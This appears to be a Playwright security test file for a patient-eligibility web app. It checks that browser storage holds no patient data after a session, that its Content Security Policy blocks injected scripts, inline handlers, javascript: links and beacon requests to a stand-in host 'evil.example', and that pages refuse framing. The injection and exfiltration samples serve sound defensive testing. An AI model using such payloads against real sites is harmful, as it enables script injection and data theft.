import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { check, findPatient } from '#/steps/eligibility.ts';
import { title } from '#/steps/shell.ts';
import { signIn } from '#/steps/signIn.ts';
import { expect, test } from '#/test.ts';
import { clerk } from '#/fixtures/people.ts';
import { siteUrl } from '#/fixtures/fixtures.ts';

/** What may lie in a browser after work: the token and what names no patient. Of images, one's own and clients' logos. A user's id may follow. */
const allowed = new Set([
  'AuthToken',
  'RememberedUsername',
  'LastAppVersion',
  'ImageCache',
  'LastActivity',
  'UserBarFolded',
  'FoldedGroups',
  'mantine-color-scheme-value',
]);

test('I-06 after a day’s work the browser keeps the token and preferences alone', async ({ page, context, person }) => {
  await page.goto('/');
  await page.getByRole('checkbox', { name: 'Remember me' }).check();
  await signIn(page, person.email);
  await findPatient(page, 'okonk', /Rosalind/, 'Okonkwo');
  await check(page, 'Active');
  await page.getByRole('button', { name: 'Reporting', exact: true }).click();
  await page.getByRole('button', { name: 'Fold the user bar' }).click();
  await page.getByRole('link', { name: 'Real-Time Eligibility' }).click();
  const kept = await page.evaluate(async () => ({
    local: Object.keys(localStorage).map((key) => [key, localStorage.getItem(key)] as const),
    session: Object.keys(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(kept.local.map(([key]) => key).filter((key) => !allowed.has(key.split(' ')[0] ?? ''))).toEqual([]);
  expect(JSON.stringify(kept.local)).not.toMatch(/okonkwo|rosalind|10024471|6208/i);
  expect(kept).toMatchObject({ session: [], databases: [], caches: [], workers: 0 });
  // the login's own cookie ends with the login
  expect(await context.cookies()).toEqual([]);
});

test.describe('signed in', () => {
  test.use({ as: clerk });

  test('I-02 I-04 injected script, handler, markup and strange addresses are stopped', async ({ page, noise }) => {
    noise.expect(/Content Security Policy|TrustedHTML|TrustedScript|request failed: \/beacon|ERR_BLOCKED/);
    await page.goto('/Account/Profile');
    await expect(title(page, 'Profile')).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violated.push(event.effectiveDirective));
      const attempt = async (act: () => unknown): Promise<string> => {
        try {
          await act();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'thrown';
        }
      };
      /** Waits until this directive has stopped an act that says nothing itself. */
      const stopped = (directive: string, act: () => void) =>
        new Promise<string>((resolve) => {
          const heard = new AbortController();
          const hear = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
            if (!effectiveDirective.startsWith(directive)) return;
            heard.abort();
            resolve('stopped');
          };
          document.addEventListener('securitypolicyviolation', hear, { signal: heard.signal });
          act();
        });
      const script = document.createElement('script');
      const results = {
        script: await attempt(() => {
          script.textContent = 'window.injected = true';
          document.body.append(script);
        }),
        markup: await attempt(() => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected = true">');
        }),
        handler: await attempt(() => {
          const button = document.createElement('button');
          button.setAttribute('onclick', 'window.injected = true');
          document.body.append(button);
          button.click();
          button.remove();
        }),
        address: await stopped('require-trusted-types-for', () => {
          const link = document.createElement('a');
          link.href = 'javascript:void (window.injected = true)';
          document.body.append(link);
          link.click();
          link.remove();
        }),
        form: await stopped('form-action', () => {
          const form = document.createElement('form');
          form.action = 'https://evil.example/beacon';
          form.method = 'post';
          document.body.append(form);
          form.submit();
          form.remove();
        }),
        fetch: await attempt(() => fetch('https://evil.example/beacon')),
        image: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.addEventListener('load', resolve);
              image.addEventListener('error', () => reject(new Error('blocked')));
              image.src = 'https://evil.example/beacon.png';
            }),
        ),
      };
      return { results, violated, injected: 'injected' in window };
    });
    expect(outcome.injected).toBe(false);
    expect(outcome.results).toEqual({
      script: 'TypeError',
      markup: 'TypeError',
      handler: expect.stringMatching(/TypeError|done/),
      address: 'stopped',
      form: 'stopped',
      fetch: 'TypeError',
      image: 'Error',
    });
    expect(outcome.violated).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
  });
});

test('I-07 no page can be framed by another site', async ({ page, noise }) => {
  noise.expect(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE/);
  for (const path of ['/', '/Account/Profile', '/error']) {
    const answer = await page.request.get(path);
    expect(answer.headers()).toMatchObject({ 'x-frame-options': 'DENY' });
    expect(answer.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  }
  const evil = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${siteUrl()}/" title="x"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(evil, 'listening');
  const { port } = evil.address() as AddressInfo; // safe: it listens on a port
  await page.goto(`http://127.0.0.1:${port}/`);
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Log in' })).toHaveCount(0);
  evil.close();
});
